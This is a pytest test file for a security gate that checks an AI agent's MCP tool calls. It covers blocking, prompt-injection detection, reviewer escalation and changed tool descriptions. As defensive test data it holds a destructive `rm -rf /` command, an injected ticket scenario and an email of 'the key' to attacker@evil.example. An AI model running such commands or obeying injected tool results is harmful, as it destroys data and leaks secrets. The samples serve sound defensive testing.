"""`GatedSession`: the official MCP Python SDK's client session with every tool call asked
about at a real `tribunal serve`, talking to a real MCP SDK server (tests/mcp/server.py)."""

from __future__ import annotations

import asyncio
import json
import os
import sys
import threading
from pathlib import Path
from typing import Any, Awaitable, Callable, Dict, List, TypeVar

import httpx
import pytest
from mcp import ClientSession, StdioServerParameters, stdio_client

from tribunal import AsyncGate, Blocked, Gate
from tribunal.adapters.mcp import GatedSession, result_text, tool_definition

from test_gate import _decide
from test_mcp_proxy import INJECTION, SERVER

T = TypeVar("T")
ASK = "Read ticket 42 and email the printer team what it needs."


class Recorder:
    """The bodies of the gate requests an async client made."""

    def __init__(self) -> None:
        self.bodies: List[Dict[str, Any]] = []

    def client(self) -> httpx.AsyncClient:
        async def req(r: httpx.Request) -> None:
            if r.url.path.endswith("/gate"):
                self.bodies.append(json.loads(r.content))

        return httpx.AsyncClient(timeout=30, event_hooks={"request": [req]})


def run(tmp: Path, steps: Callable[[ClientSession], Awaitable[T]], env: Dict[str, str] = {}) -> T:
    """Starts the MCP server over stdio, and runs `steps` with an initialized session."""
    p = StdioServerParameters(
        command=sys.executable,
        args=[SERVER],
        env={"SENT_LOG": str(tmp / "sent.log"), "PATH": os.environ.get("PATH", ""), **env},
        cwd=str(tmp),
    )

    async def go() -> T:
        async with stdio_client(p) as (read, write):
            async with ClientSession(read, write) as s:
                await s.initialize()
                return await steps(s)

    return asyncio.run(go())


def sent(tmp: Path) -> List[str]:
    f = tmp / "sent.log"
    return f.read_text().split() if f.exists() else []


def test_a_harmless_call_goes_through_and_a_harmful_one_never_reaches_the_server(
    server: Any, tmp_path: Path
) -> None:
    rec = Recorder()

    async def steps(s: ClientSession) -> Any:
        gated = GatedSession(s, AsyncGate(server.url, token=server.agent_token, client=rec.client()))
        listed = await gated.list_tools()
        ok = await gated.call_tool("search", {"query": "printer"})
        refused = await gated.call_tool("run_command", {"command": "rm -rf /"})
        return gated, listed, ok, refused

    gated, listed, ok, refused = run(tmp_path, steps)
    assert "run_command" in {t.name for t in listed.tools}
    assert not ok.is_error and result_text(ok) == "3 tickets match 'printer'."
    # The refusal is the error result an agent loop hands back to its model.
    assert refused.is_error
    assert "refused by the Tribunal gate" in result_text(refused) and "Do not retry" in result_text(refused)
    assert refused.meta is not None and refused.meta["tribunal"]["decision"] == "block"
    assert [d.decision for d in gated.decisions] == ["allow", "block"]
    assert sent(tmp_path) == [], "the refused call never reached the server"

    # The first request sent the listed tools with the trace; the second only what was new.
    first, second = rec.bodies
    assert {t["function"]["name"] for t in first["trace"]["tools"]} >= {"search", "close_ticket"}
    assert first["trace"]["messages"][0]["name"] == "mcp.tools_list"
    assert first["pending"]["name"] == "search"
    assert "trace" not in second and second["offset"] == gated.decisions[0].messages
    roles = [m["role"] for m in second["append"]]
    assert roles == ["assistant", "tool"], second["append"]
    assert second["append"][1]["content"] == "3 tickets match 'printer'."
    # What the session holds is what the gate holds: the listing, the call and its result.
    assert len(gated.messages) == 3


def test_raise_mode_raises_blocked_and_a_sync_gate_works_too(server: Any, tmp_path: Path) -> None:
    async def steps(s: ClientSession) -> Any:
        gated = GatedSession(s, Gate(server.url, token=server.agent_token), on_block="raise")
        await gated.list_tools()
        ok = await gated.call_tool("search", {"query": "toner"})
        with pytest.raises(Blocked) as e:
            await gated.call_tool("run_command", {"command": "rm -rf /"})
        # Anything else is the session's own.
        tools = await gated.list_tools()
        return ok, e.value, tools

    ok, blocked, tools = run(tmp_path, steps)
    assert result_text(ok) == "3 tickets match 'toner'."
    assert blocked.decision.decision == "block" and blocked.decision.rules
    assert len(tools.tools) == 5
    assert sent(tmp_path) == []


def test_an_injected_tool_result_blocks_the_next_sensitive_call(server: Any, tmp_path: Path) -> None:
    async def steps(s: ClientSession) -> Any:
        gated = GatedSession(s, AsyncGate(server.url, token=server.agent_token))
        gated.record({"role": "user", "content": ASK})
        await gated.list_tools()
        ticket = await gated.call_tool("read_ticket", {"ticket_id": "42"})
        email = await gated.call_tool("send_email", {"to": "attacker@evil.example", "body": "the key"})
        return gated, ticket, email

    gated, ticket, email = run(tmp_path, steps, {"TICKET_TEXT": INJECTION})
    assert result_text(ticket) == INJECTION, "results are passed on unchanged"
    assert gated.messages[-1] == {
        "role": "tool",
        "tool_call_id": "mcp-call-1",
        "name": "read_ticket",
        "content": INJECTION,
    }
    assert email.is_error
    assert "c2.indirect_injection" in gated.decisions[-1].rules, gated.decisions[-1]
    assert sent(tmp_path) == []

    # The same email after a clean ticket goes through.
    async def clean(s: ClientSession) -> Any:
        gated = GatedSession(s, AsyncGate(server.url, token=server.agent_token))
        gated.record({"role": "user", "content": ASK})
        await gated.list_tools()
        await gated.call_tool("read_ticket", {"ticket_id": "42"})
        return await gated.call_tool(
            "send_email", {"to": "printer-team@example.com", "body": "Paper please."}
        )

    out = run(tmp_path, clean)
    assert not out.is_error and result_text(out) == "sent to printer-team@example.com"
    assert sent(tmp_path) == ["printer-team@example.com"]


def test_a_tool_its_server_marks_destructive_waits_for_a_reviewer(server: Any, tmp_path: Path) -> None:
    # Denied: the annotation reached the gate, which escalated; the call is refused.
    async def denied(s: ClientSession) -> Any:
        gated = GatedSession(s, AsyncGate(server.url, token=server.agent_token, poll_interval=0.1))
        await gated.list_tools()
        return gated, await gated.call_tool("close_ticket", {"ticket_id": "41"})

    gated, refused = run(tmp_path, denied)
    assert refused.is_error
    d = gated.decisions[-1]
    assert d.decision == "escalate" and "c5.destructive_tool" in d.rules, d
    assert sent(tmp_path) == []
    # Settle it, so the next test's reviewer sees only its own escalation.
    _decide(server, "deny", [])

    # Approved while the gate waits: the call reaches the server.
    seen: List[str] = []
    reviewer = threading.Thread(target=_decide, args=(server, "approve", seen))
    reviewer.start()

    async def approved(s: ClientSession) -> Any:
        gate = AsyncGate(server.url, token=server.agent_token, escalation_wait=20, poll_interval=0.1)
        gated = GatedSession(s, gate)
        await gated.list_tools()
        return gated, await gated.call_tool("close_ticket", {"ticket_id": "42"})

    try:
        gated, closed = run(tmp_path, approved)
    finally:
        reviewer.join()
    assert not closed.is_error and result_text(closed) == "closed 42"
    d = gated.decisions[-1]
    assert d.decision == "allow" and d.escalation is not None and d.escalation.status == "approved"
    assert d.escalation.id in seen
    assert sent(tmp_path) == ["closed:42"]


def test_listed_tools_become_definitions_with_their_annotations() -> None:
    from mcp.types import Tool, ToolAnnotations

    t = Tool(
        name="close_ticket",
        description="Closes a ticket.",
        input_schema={"type": "object", "properties": {"id": {"type": "string"}}},
        annotations=ToolAnnotations(destructive_hint=True, read_only_hint=False),
    )
    assert tool_definition(t) == {
        "type": "function",
        "function": {
            "name": "close_ticket",
            "description": "Closes a ticket.",
            "parameters": {"type": "object", "properties": {"id": {"type": "string"}}},
        },
        "annotations": {"destructiveHint": True, "readOnlyHint": False},
    }
    bare = tool_definition(Tool(name="x", input_schema={"type": "object"}))
    assert "annotations" not in bare and "description" not in bare["function"]
    with pytest.raises(ValueError, match="on_block"):
        GatedSession(object(), Gate("http://127.0.0.1:1"), on_block="ignore")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="role"):
        GatedSession(object(), Gate("http://127.0.0.1:1")).record({"content": "hi"})  # type: ignore[arg-type]


def test_a_tool_whose_description_changed_under_the_agent_is_refused_until_approved(
    server: Any, tmp_path: Path
) -> None:
    """A rug pull: the MCP server changes a tool's description after the gate pinned it.
    Calls of that tool are refused (`c12.tool_definition_changed`), calls of the others go
    on, until a reviewer approves the new description at the gate."""
    context = {"agent": "rug-pull-test"}

    async def session(s: ClientSession) -> Any:
        gated = GatedSession(s, AsyncGate(server.url, token=server.agent_token), context=context)
        await gated.list_tools()
        search = await gated.call_tool("search", {"query": "printer"})
        ticket = await gated.call_tool("read_ticket", {"ticket_id": "1"})
        return gated, search, ticket

    gated, search, ticket = run(tmp_path, session)
    assert not search.is_error and not ticket.is_error, gated.decisions

    changed = {"SEARCH_DESCRIPTION": "Searches the ticket archive, version 2."}
    gated, search, ticket = run(tmp_path, session, changed)
    assert search.is_error, "a call of the changed tool went through"
    assert "c12.tool_definition_changed" in gated.decisions[0].rules, gated.decisions[0]
    assert not ticket.is_error, "a call of an unchanged tool was refused"

    # A reviewer reads both descriptions and approves the new one by its hash.
    headers = {"Authorization": f"Bearer {server.reviewer_token}"}
    pins = httpx.get(f"{server.url}/api/v1/tools/pins?changed=true", headers=headers).json()["pins"]
    (pin,) = [p for p in pins if p["agent"] == "rug-pull-test"]
    assert pin["tool"] == "search"
    assert pin["definition"]["description"] == "Searches the ticket archive."
    assert pin["changed"]["definition"]["description"] == changed["SEARCH_DESCRIPTION"]
    r = httpx.post(
        f"{server.url}/api/v1/tools/pins/approve",
        headers=headers,
        json={"tool": "search", "agent": "rug-pull-test", "hash": pin["changed"]["hash"]},
    )
    assert r.status_code == 200, r.text
    gated, search, ticket = run(tmp_path, session, changed)
    assert not search.is_error, gated.decisions
